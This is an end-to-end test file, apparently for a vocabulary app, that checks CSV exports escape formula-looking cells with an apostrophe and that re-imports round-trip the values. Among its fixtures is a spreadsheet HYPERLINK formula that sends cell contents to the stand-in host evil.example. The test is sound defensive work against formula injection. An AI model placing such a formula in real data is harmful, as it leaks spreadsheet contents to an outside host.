import { InterchangeFormat } from '@lexique/interchange';
import { importText } from '../support/interchange';
import { startTestApp, TestApp } from '../support/test-app';

/** Values that a spreadsheet would run as formulas if a CSV gave them as they are. */
const FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1;"Cliquez")', '+33 5 56 00 00 00', '-1 et plus', '@SUM(A1:A9)', "'=déjà protégé"];

describe('formula-looking cells in CSV downloads (e2e)', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await startTestApp();
    // written as a download writes them: behind an apostrophe, which reading drops
    const rows = FORMULAS.map((label, i) => `FIN-X${i};FIN;PUBLISHED;"'${label.replace(/"/g, '""')}"`).join('\n');
    const created = await importText(t, `code;domain;status;prefLabel@fr\n${rows}\n`, {
      fileName: 'FIN.csv',
      format: InterchangeFormat.CONCEPTS_CSV,
    });
    expect(created.problems).toEqual([]);
  });
  afterAll(() => t.close());

  it('writes them behind an apostrophe, so that Excel shows them as text', async () => {
    const csv = (await t.http().get('/export/concepts/FIN.csv')).text;
    const ours = csv.split('\r\n').filter((line) => line.startsWith('FIN-X'));
    const protectedCells = [
      `"'=HYPERLINK(""https://evil.example/?""&A1;""Cliquez"")"`,
      "'+33 5 56 00 00 00",
      "'-1 et plus",
      "'@SUM(A1:A9)",
      "''=déjà protégé",
    ];
    protectedCells.forEach((cell, i) => expect(ours[i]).toContain(`;PUBLISHED;${cell};`));
    for (const line of csv.split('\r\n')) expect(line.split(';').every((cell) => !/^[=+\-@\t\r]/.test(cell))).toBe(true);
  });

  it('reads its own download back to the same values', async () => {
    const csv = (await t.http().get('/export/concepts/FIN.csv')).text;
    const lines = csv.split('\r\n');
    const ours = [lines[0], ...lines.filter((line) => line.startsWith('FIN-X'))].join('\r\n');
    const again = await importText(t, ours, { fileName: 'FIN.csv', format: InterchangeFormat.CONCEPTS_CSV, dryRun: true });
    expect(again.problems).toEqual([]);
    expect(again.concepts).toMatchObject({ created: 0, updated: 0, unchanged: FORMULAS.length });
    const labels = await Promise.all(FORMULAS.map((_, i) => t.gql(`{ concept(code: "FIN-X${i}") { prefLabel } }`)));
    expect(labels.map((r) => r.data!.concept.prefLabel)).toEqual(FORMULAS);
  });
});
